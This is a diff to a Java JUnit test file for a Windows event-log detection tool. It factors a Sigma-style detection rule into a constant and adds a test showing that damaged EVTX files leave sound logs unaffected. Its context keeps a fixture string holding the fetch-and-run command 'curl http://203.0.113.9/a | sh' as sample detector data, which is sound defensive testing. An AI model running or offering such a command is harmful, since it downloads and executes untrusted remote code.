@@ -7,9 +7,15 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import bzh.vigie.collector.evtx.Logs;
 import java.io.IOException;
 import java.io.PrintWriter;
+import java.io.RandomAccessFile;
 import java.io.StringWriter;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.TreeMap;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import picocli.CommandLine;
@@ -24,6 +30,16 @@ final class DetectCommandTest {
                     + "\"name\":\"x\",\"value\":\"curl http://203.0.113.9/a | sh\",\"shipped\":\"modified\","
                     + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:b\",\"key\":\"k2\","
                     + "\"traits\":[\"network-tool\",\"inline-script\"]}\n";
+
+    private static final String TOOL_RULE = """
+            title: A tool was started
+            id: x2
+            logsource: {product: windows, category: process_creation}
+            detection:
+              s: {Image|endswith: '\\tool.exe', Computer: PC-1, Provider_Name: Vigie-Test}
+              condition: s
+            level: high
+            """;
 
     private static final String BAD_RULE = """
             title: bad
@@ -97,15 +113,7 @@ final class DetectCommandTest {
     @Test
     void recordsOfWindowsLogsAreJudgedByTheirFields(@TempDir Path folder) throws IOException {
         Path rules = Files.createDirectory(folder.resolve("rules"));
-        write(rules, "tool.yml", """
-                title: A tool was started
-                id: x2
-                logsource: {product: windows, category: process_creation}
-                detection:
-                  s: {Image|endswith: '\\tool.exe', Computer: PC-1, Provider_Name: Vigie-Test}
-                  condition: s
-                level: high
-                """);
+        write(rules, "tool.yml", TOOL_RULE);
         Path logs = folder.resolve("logs");
         Files.createDirectories(logs.resolve("below"));
         Files.write(logs.resolve("below/Sysmon.EVTX"), Logs.processCreated("C:\\Temp\\tool.exe"));
@@ -132,6 +140,53 @@ final class DetectCommandTest {
         assertEquals(
                 1, run(new DetectCommand(), "--evtx", logs.resolve("notes.txt").toString(), "--lang", "fr"));
         assertTrue(err.toString().contains("n'est pas un journal d'événements Windows"), err.toString());
+    }
+
+    @Test
+    void damagedLogsCostTheOthersNothing(@TempDir Path folder) throws IOException {
+        Path rules = Files.createDirectory(folder.resolve("rules"));
+        write(rules, "tool.yml", TOOL_RULE);
+        Path logs = Files.createDirectories(folder.resolve("logs"));
+        byte[] sound = Logs.processCreated("C:\\Temp\\tool.exe");
+        Map<String, byte[]> damaged = new TreeMap<>();
+        damaged.put("a empty", new byte[0]);
+        damaged.put("b cut to its header", Arrays.copyOf(sound, 4_096));
+        damaged.put("c cut in a record", Arrays.copyOf(sound, 4_096 + 700));
+        byte[] random = new byte[100_000];
+        new Random(1).nextBytes(random);
+        damaged.put("d random", random);
+        damaged.put("e twice in one another", overlapping(sound));
+        for (Map.Entry<String, byte[]> each : damaged.entrySet()) {
+            Files.write(logs.resolve(each.getKey() + ".evtx"), each.getValue());
+        }
+        try (RandomAccessFile huge =
+                new RandomAccessFile(logs.resolve("f hollow.evtx").toFile(), "rw")) {
+            huge.setLength(512L << 20);
+        }
+        Files.write(logs.resolve("z sound.evtx"), sound);
+        int ignored = run(
+                new DetectCommand(),
+                "--rules",
+                rules.toString(),
+                "--evtx",
+                logs.toString(),
+                "--format",
+                "jsonl",
+                "--lang",
+                "en");
+        assertTrue(out.toString().contains("z sound.evtx"), out.toString() + err);
+        for (String none : List.of("a empty", "d random", "f hollow")) {
+            assertTrue(err.toString().contains(none), none + " in " + err);
+        }
+        assertTrue(err.toString().contains("c cut in a record.evtx ends too early"), err.toString());
+        assertTrue(out.toString().contains("e twice in one another.evtx"), out.toString());
+    }
+
+    /** The same chunk once more, from its middle on. */
+    private static byte[] overlapping(byte[] sound) {
+        byte[] twice = Arrays.copyOf(sound, sound.length + 32_768);
+        System.arraycopy(sound, 4_096, twice, 4_096 + 32_768, 65_536);
+        return twice;
     }
 
     @Test
